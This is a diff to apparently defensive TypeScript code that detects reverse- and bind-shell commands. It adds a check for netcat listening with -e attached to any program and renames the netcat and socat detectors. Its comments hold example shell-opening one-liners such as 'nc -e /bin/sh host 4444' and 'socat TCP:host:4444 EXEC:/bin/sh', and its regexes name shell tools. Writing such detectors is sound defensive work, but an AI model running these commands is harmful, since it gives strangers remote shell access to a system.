@@ -33,6 +33,10 @@ const SHELL = '(\\S*/)?((ba|z|da|k)?sh|python[\\d.]*|perl|ruby|php|node)\\b|cmd(
 const NC_EXEC = new RegExp(
   `\\s(-[a-z]*[ec]|--exec|--sh-exec|-c)[\\s=]+["']?(((\\S*/)?(env|exec|nice|nohup|setsid)|--?[a-zA-Z-]+|[A-Z]\\w*|\\d+)\\s+)*(${SHELL})`,
 );
+/** `nc -l -p 4444 -e PROGRAM`: whatever the program is, strangers can type into it. */
+const NC_LISTENS = /\s-[a-z]*l/;
+const NC_RUNS =
+  /\s(-[a-z]*e|--exec|--sh-exec|--lua-exec)[\s=]+(?!(\S*\/)?(cat|true|echo|date|hostname|uptime)\b)\S/;
 const SOCAT_EXEC = new RegExp(
   `\\b(?:(?:EXEC|SYSTEM|SHELL):["']?(?:[\\w/.-]+\\s+)*(?:${SHELL}|\\$)|SHELL\\b)`,
   'i',
@@ -49,12 +53,15 @@ export const reverseShell = (command: ShellCommand): Effect =>
   });
 
 /** `nc -e /bin/sh host 4444` */
-export const givesShell: Behaviour = {
-  effects: (command) => (NC_EXEC.test(textOf(command)) ? [reverseShell(command)] : []),
+export const netcatShell: Behaviour = {
+  effects: (command) =>
+    NC_EXEC.test(textOf(command)) || (NC_LISTENS.test(textOf(command)) && NC_RUNS.test(textOf(command)))
+      ? [reverseShell(command)]
+      : [],
 };
 
 /** `socat TCP:host:4444 EXEC:/bin/sh` */
-export const connectsShell: Behaviour = {
+export const socatShell: Behaviour = {
   effects(command) {
     const text = textOf(command);
     const connects = /(TCP|UDP|SSL|UNIX|SCTP|DCCP|VSOCK|FD|PROXY|SOCKS)/i.test(text);
